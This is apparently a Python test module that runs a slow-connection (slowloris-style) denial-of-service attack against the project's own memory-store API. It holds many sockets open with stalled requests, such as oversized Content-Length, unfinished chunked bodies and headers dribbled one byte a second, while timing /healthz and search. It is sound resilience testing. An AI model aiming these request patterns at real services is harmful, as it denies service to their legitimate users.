"""Clients hold connections open and send nothing, or a byte a second, so that others get no answer.

`MEMSTORE_ATTACK_CONNECTIONS=200 MEMSTORE_ATTACK_SECONDS=60 python -m tests.attacks --home ... silent_connections`
"""

from __future__ import annotations

import json
import os
import selectors
import socket
import time
import urllib.error
import urllib.request
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from tests.attacks.target import Outcome

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.attacks.target import Target

CONNECTIONS = int(os.environ.get("MEMSTORE_ATTACK_CONNECTIONS", "64"))
SECONDS = float(os.environ.get("MEMSTORE_ATTACK_SECONDS", "4"))
PATIENCE_SECONDS = 2.0
SIGN_IN = "/governance/v1/session/sign-in/"
JSON = "Content-Type: application/json\r\n"
# What is sent at once, and what is sent each second after: all of it without a key.
WAYS: tuple[tuple[str, bytes], ...] = (
    (f"POST /v1/ping/ HTTP/1.1\r\nHost: {{host}}\r\n{JSON}Content-Length: 100000000\r\n\r\n", b""),
    (f"POST /v3/memories/search/ HTTP/1.1\r\nHost: {{host}}\r\n{JSON}Content-Length: 1000\r\n\r\n", b""),
    (f"POST /v3/memories/search/ HTTP/1.1\r\nHost: {{host}}\r\n{JSON}Content-Length: 1000\r\n\r\n", b"x"),
    (f"POST /v1/ping/ HTTP/1.1\r\nHost: {{host}}\r\n{JSON}Transfer-Encoding: chunked\r\n\r\n", b""),
    (f"POST {SIGN_IN} HTTP/1.1\r\nHost: {{host}}\r\n{JSON}Content-Length: 90\r\n\r\n{{{{", b""),
    ("POST /v1/ping/ HTTP/1.1\r\nHost: {host}\r\nX-A: ", b"a"),
    (f"POST /v1/ping/ HTTP/1.1\r\nHost: {{host}}\r\n{JSON}Expect: 100-continue\r\nContent-Length: 9\r\n\r\n", b""),
)


def attack(target: Target) -> Outcome:
    """Hold the connections. The service stands when /healthz and a search answer within two seconds all the while."""
    slowest = {"healthz": 0.0, "search": 0.0}
    failures = asked = 0
    search = {"query": "clocks", "filters": {"user_id": "silent-connections"}}
    _timed(lambda: target.call("POST", "/v3/memories/search/", search)[0])  # the first one loads the model
    stranger = _Stranger(target.url)
    try:
        end = time.monotonic() + SECONDS
        while time.monotonic() < end:
            stranger.go_on()
            for name, ask in {
                "healthz": lambda: _status(target.url + "/healthz"),
                "search": lambda: _search(target, search),
            }.items():
                seconds, status = _timed(ask)
                asked += 1
                failures += status != 200
                slowest[name] = max(slowest[name], seconds)
            time.sleep(0.1)
        ended, opened = stranger.count()
    finally:
        stranger.close()
    seen = ", ".join(f"slowest {name} {seconds:.2f} s" for name, seconds in slowest.items())
    return Outcome(
        held=not failures and max(slowest.values()) < PATIENCE_SECONDS,
        seen=f"{CONNECTIONS} connections for {SECONDS:.0f} s: {seen}, {failures} of {asked} unanswered; "
        f"{ended} of {opened} were ended by the service",
    )


class _Stranger:
    """A client that holds CONNECTIONS open, and opens each again that the service ends."""

    def __init__(self, url: str) -> None:
        parts = urlsplit(url)
        self._address, self._host = (parts.hostname or "", parts.port or 80), parts.netloc
        self._ended = self._opened = 0
        self._watch = selectors.DefaultSelector()
        self._fed_at = time.monotonic()
        for number in range(CONNECTIONS):
            self._open(number % len(WAYS))

    def _open(self, way: int) -> None:
        self._opened += 1
        connection = socket.create_connection(self._address, timeout=5)
        connection.sendall(WAYS[way][0].format(host=self._host).encode())
        connection.setblocking(False)
        self._watch.register(connection, selectors.EVENT_READ, way)

    def go_on(self) -> None:
        """Notice what was ended, and feed a byte to those that are fed, each second."""
        for key, _ in self._watch.select(timeout=0):
            if isinstance(key.fileobj, socket.socket) and _is_over(key.fileobj):
                self._end(key.fileobj, key.data)
        if time.monotonic() - self._fed_at < 1:
            return
        self._fed_at = time.monotonic()
        for key in list(self._watch.get_map().values()):
            if isinstance(key.fileobj, socket.socket) and (byte := WAYS[key.data][1]):
                try:
                    key.fileobj.send(byte)
                except BlockingIOError:
                    continue
                except OSError:
                    self._end(key.fileobj, key.data)

    def _end(self, connection: socket.socket, way: int) -> None:
        self._watch.unregister(connection)
        connection.close()
        self._ended += 1
        self._open(way)

    def count(self) -> tuple[int, int]:
        """Return (ended by the service, opened)."""
        return self._ended, self._opened

    def close(self) -> None:
        for key in list(self._watch.get_map().values()):
            if isinstance(key.fileobj, socket.socket):
                key.fileobj.close()
        self._watch.close()


def _is_over(connection: socket.socket) -> bool:
    try:
        while connection.recv(65536):
            continue  # `100 Continue`, or why it was refused
    except BlockingIOError:
        return False
    except OSError:
        return True
    return True


def _timed(ask: Callable[[], int]) -> tuple[float, int]:
    started = time.monotonic()
    try:
        status = ask()
    except (TimeoutError, OSError):
        status = 0
    return time.monotonic() - started, status


def _status(url: str) -> int:
    with urllib.request.urlopen(url, timeout=PATIENCE_SECONDS) as answer:
        return int(answer.status)


def _search(target: Target, body: object) -> int:
    """Search with the demo's key; not by `target.call`, which waits for a minute."""
    headers = {"Authorization": f"Token {target.demo['api_key']}", "Content-Type": "application/json"}
    request = urllib.request.Request(target.url + "/v3/memories/search/", json.dumps(body).encode(), headers)
    with urllib.request.urlopen(request, timeout=PATIENCE_SECONDS) as answer:
        return int(answer.status)
